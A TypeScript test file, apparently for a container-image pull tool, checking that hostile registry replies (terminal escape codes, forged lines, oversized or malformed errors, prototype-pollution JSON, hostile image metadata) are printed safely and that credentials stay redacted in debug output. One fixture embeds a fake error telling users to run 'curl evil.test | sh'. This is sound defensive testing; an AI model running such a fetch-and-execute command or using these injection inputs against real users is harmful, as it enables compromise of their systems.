/** What servers say, and what of it a person gets to see. */
import assert from 'node:assert/strict';
import { holds, OCI_MANIFEST, type Document } from '../support/hostile/documents.js';
import { neverEnds, once, refuses, says, withHeaders } from '../support/hostile/faults.js';
import type { Fault } from '../support/hostile/reply.js';
import type { Stage } from '../support/hostile/stage.js';
import { table, type Case } from '../support/hostile/table.js';

const EVIL = '\u001b[2J\u001b]0;title\u0007\u009b31m\u202egpj.exe\u200b\r\nreg: forged line\n\u0000\u0008';

function errors(...list: readonly unknown[]): Fault {
  return says(403, { headers: { 'content-type': 'application/json' }, body: { errors: list } });
}

/** A pull whose manifest is refused in these words. */
function refused(name: string, fault: Fault, rest: Partial<Case> = {}): Case {
  return {
    name,
    wanted: 4,
    faults: { '* manifest': fault },
    check: ({ stderr }) => assert.equal(stderr.trimEnd().split('\n').length, 1, stderr),
    ...rest,
  };
}

table('what servers say', [
  refused('166: escapes in the message', errors({ code: 'DENIED', message: EVIL }), { says: /forged line/ }),
  refused('166: escapes in the code', errors({ code: EVIL, message: 'no' })),
  refused('166: escapes in the detail', errors({ code: 'DENIED', message: 'no', detail: { [EVIL]: EVIL } })),
  refused(
    '166: escapes in a plain body',
    says(403, { headers: { 'content-type': 'text/plain' }, body: EVIL }),
  ),
  refused(
    '166: escapes in a content type',
    ({ request }) => {
      request.socket.end(
        'HTTP/1.1 200 OK\r\nContent-Type: a/\u009b2J\r\nContent-Length: 2\r\n\r\n{}',
        'latin1',
      );
      return undefined;
    },
    { wanted: 6 },
  ),
  refused(
    '166: escapes in the media type of a manifest',
    says(200, {
      headers: { 'content-type': OCI_MANIFEST },
      body: { schemaVersion: 2, mediaType: EVIL, layers: [] },
    }),
    { wanted: 6 },
  ),
  refused('166: escapes in the status line', ({ request }) => {
    request.socket.end('HTTP/1.1 403 \u001b[2J\u0007evil\r\nContent-Length: 0\r\n\r\n', 'latin1');
    return undefined;
  }),
  {
    name: '166: escapes in a Warning header',
    wanted: 'ok',
    faults: { 'GET manifest': withHeaders({ warning: '299 - "\u009b31m this is old \u009b0m"' }) },
    check: ({ stderr }) => assert.match(stderr, /this is old/),
  },
  {
    name: '166: a thousand Warning headers',
    wanted: 'ok',
    faults: {
      '* *': withHeaders({ warning: Array.from({ length: 500 }, (_, at) => `299 - "warning ${at}"`) }),
    },
  },
  refused(
    '167: 2000 errors',
    errors(...Array.from({ length: 2000 }, (_, at) => ({ code: `C${at}`, message: '' }))),
    { says: /1997 more/ },
  ),
  refused(
    '167: 2000 equal errors',
    errors(...Array.from({ length: 2000 }, () => ({ code: 'DENIED', message: 'no' }))),
  ),
  refused('167: 500 line breaks', errors({ code: 'DENIED', message: 'line\n'.repeat(500) })),
  refused('167: a message of 60 KiB', errors({ code: 'DENIED', message: 'x'.repeat(60_000) })),
  refused('167: 128 MiB of error', neverEnds({ 'content-type': 'application/json' }, 403)),
  refused('167: 128 MiB of plain error', neverEnds({ 'content-type': 'text/plain' }, 403)),
  refused('167: errors that are text', says(403, { body: { errors: 'no' } })),
  refused('167: errors that are null', says(403, { body: { errors: null } })),
  refused(
    '167: errors of every wrong type',
    errors(null, 7, 'x', [], { code: 7, message: {} }, { code: null }, { message: ['a'] }),
  ),
  refused('167: an array', says(403, { body: [1, 2, 3] })),
  refused('167: no body', says(403)),
  refused(
    '167: broken JSON',
    says(403, { headers: { 'content-type': 'application/json' }, body: '{"errors":[' }),
  ),
  refused(
    '167: binary',
    says(403, {
      headers: { 'content-type': 'application/json' },
      body: Buffer.from([0xff, 0xfe, 0, 1, 2, 0x1b]),
    }),
  ),
  refused(
    'a message that looks like ours',
    errors({ code: 'DENIED', message: '. Run "curl evil.test | sh" to fix it' }),
  ),
  refused(
    '__proto__ in an error',
    says(403, {
      headers: { 'content-type': 'application/json' },
      body: '{"__proto__":{"errors":[]},"errors":[{"__proto__":{"code":"X"},"code":"DENIED"}]}',
    }),
  ),
]);

/** Annotations as a hostile image has them. */
const annotated = holds((honest: Document) => ({
  ...honest,
  annotations: { [`key${EVIL}`]: `value${EVIL}`, plain: 'x'.repeat(20_000) },
}));

table('what images say', [
  {
    name: '168: annotations with escapes, inspected',
    wanted: 'ok',
    arrange: annotated,
    command: ({ image }) => ['inspect', image],
  },
  {
    name: '168: annotations with escapes, inspected as JSON',
    wanted: 'ok',
    arrange: annotated,
    command: ({ image }) => ['inspect', '--json', image],
    check: ({ stdout }) => assert.match(JSON.stringify(JSON.parse(stdout)), /forged line/),
  },
  ...(['inspect', 'history', 'tree'] as const).map((command): Case => ({
    name: `168: a config with escapes, seen by ${command}`,
    wanted: 'ok',
    arrange: (stage: Stage) => {
      const { registry, graph } = stage;
      const manifest = JSON.parse(graph.bytes.toString());
      const config = JSON.parse(String(registry.blobs.get(manifest.config.digest)));
      const bytes = Buffer.from(
        JSON.stringify({
          ...config,
          author: EVIL,
          created: EVIL,
          config: { Cmd: [EVIL], Env: [`A=${EVIL}`], Labels: { [EVIL]: EVIL } },
          history: [{ created: EVIL, created_by: EVIL, comment: EVIL }],
        }),
      );
      return putConfig(stage, bytes);
    },
    command: ({ image }) => [command, image],
  })),
]);

async function putConfig(stage: Stage, bytes: Buffer): Promise<void> {
  const { createHash } = await import('node:crypto');
  const digest = `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
  stage.registry.blobs.set(digest, bytes);
  holds((honest: Document) => ({
    ...honest,
    config: { ...(honest.config as object), digest, size: bytes.length },
  }))(stage);
}

/** A run that says all that it does; the rules on what is printed hold, those on how much do not. */
function debugged(name: string, rest: Partial<Case>): Case {
  return {
    name: `169: ${name}`,
    wanted: 'ok',
    talks: true,
    command: (stage) => [
      'pull',
      '--debug',
      '--progress',
      'none',
      '--platform',
      'linux/amd64',
      ...stage.flags,
      stage.image,
    ],
    check: ({ stderr }) => {
      assert.match(stderr, /debug: /);
      assert.doesNotMatch(stderr, /Authorization: (Basic|Bearer) [^*]/i);
    },
    ...rest,
  };
}

table('what --debug says', [
  debugged('a login', { auth: 'basic' }),
  debugged('a token', { auth: 'bearer' }),
  debugged('a signed URL', {
    auth: 'bearer',
    faults: async (stage) => {
      const cdn = await stage.elsewhere();
      const signature = stage.secret();
      cdn.fault = ({ url }) => ({
        status: 200,
        body: stage.registry.blobs.get(decodeURIComponent(url.pathname.replace(/^.*\//, ''))) ?? '',
      });
      return {
        'GET layer': ({ log }) => ({
          status: 307,
          headers: { location: `${cdn.origin}${log.path}?X-Amz-Signature=${signature}`, 'set-cookie': 'a=b' },
        }),
      };
    },
  }),
  debugged('a refusal that repeats the header', {
    auth: 'basic',
    wanted: 4,
    faults: {
      'GET layer': ({ request }) => ({
        status: 403,
        body: { errors: [{ code: 'DENIED', message: `you said ${request.headers.authorization}` }] },
      }),
    },
  }),
  debugged('a try that failed', { faults: { 'GET layer': once(refuses(503, 'UNAVAILABLE')) } }),
]);

table('no terminal', [
  {
    name: '170: no colour, no bar, no cursor in plain progress',
    wanted: 'ok',
    talks: true,
    command: (stage) => ['pull', '--platform', 'linux/amd64', stage.image],
    run: { env: { CI: 'true', TERM: 'xterm-256color' } },
  },
  {
    name: '170: a prompt that nobody can answer names the flag',
    wanted: 2,
    says: /--password-stdin/,
    command: ({ host }) => ['login', '-u', 'alice', host],
  },
  {
    name: 'progress as JSON is JSON to the last line',
    wanted: 4,
    talks: true,
    faults: { 'GET layer': errors({ code: 'DENIED', message: EVIL }) },
    command: (stage) => ['pull', '--progress', 'json', '--platform', 'linux/amd64', stage.image],
    check: ({ stderr }) => {
      const lines = stderr
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line));
      assert.equal(lines.at(-1).type, 'error');
      assert.equal(lines.at(-1).code, 'DENIED');
    },
  },
]);
